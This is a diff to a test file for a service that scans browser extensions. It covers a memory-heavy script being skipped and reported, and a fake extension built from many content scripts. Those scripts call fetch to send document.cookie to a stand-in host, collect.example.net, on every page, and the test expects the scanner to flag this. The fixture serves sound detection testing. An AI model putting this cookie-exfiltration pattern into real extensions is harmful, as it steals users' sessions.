@@ -64,17 +64,50 @@ describe('the analysis process', () => {
     expect(children()).toEqual([]);
   });
 
-  it('that needs too much memory fails its own scan, and nothing else', async () => {
+  it('that needs too much memory is replaced by one that looks at less: the report names what was left', async () => {
     // One expression of two million calls: its syntax tree is far larger than the memory given here.
     const files = {
       'manifest.json': strToU8('{"manifest_version":3,"name":"Fat","version":"1"}'),
       'fat.js': strToU8(`x=[${'f(a,b,[c,d]),'.repeat(600_000)}]`),
+      'own.js': strToU8('own();'),
     };
     const fat = await service.upload('fat.zip', zipSync(files));
     expect(await service.ended(fat.body.repo_id)).toMatchObject({
-      phase: 'Failed',
-      error_message: expect.stringMatching(/broke down twice|more memory/),
+      is_complete: true,
+      total_files: 3,
+      skipped_files: 1,
     });
+    const { body: report } = await service.get(`/repos/${fat.body.repo_id}/report`);
+    expect(JSON.stringify(report)).toContain('fat.js');
+    expect(['C', 'D', 'F']).toContain(report.grade);
+  });
+
+  it('gives a report of many scripts with more data flows than its memory holds', async () => {
+    // Each of them by itself is small and plain; 11 MB of these ended the service's analysis with its usual memory, too.
+    const scripts = Array.from({ length: 24 }, (_, script) => [
+      `s${script}.js`,
+      strToU8(
+        Array.from(
+          { length: 4000 },
+          (_, at) => `fetch('https://collect.example.net/${script}/${at}?' + document.cookie);`,
+        ).join('\n'),
+      ),
+    ]);
+    const manifest = {
+      manifest_version: 3,
+      name: 'Many',
+      version: '1',
+      content_scripts: [{ matches: ['<all_urls>'], js: scripts.map(([name]) => name) }],
+    };
+    const many = await service.upload(
+      'many.zip',
+      zipSync({ 'manifest.json': strToU8(JSON.stringify(manifest)), ...Object.fromEntries(scripts) }),
+    );
+    expect(await service.ended(many.body.repo_id)).toMatchObject({ is_complete: true, risk_grade: 'F' });
+    const { body: report } = await service.get(`/repos/${many.body.repo_id}/report`);
+    const told = JSON.stringify(report);
+    expect(told).toContain('fills the memory');
+    expect(told).toContain('input-to-network');
     const { body } = await service.upload('fine.zip', extensionZip('1.0'));
     expect(await service.ended(body.repo_id)).toMatchObject({ is_complete: true });
   });
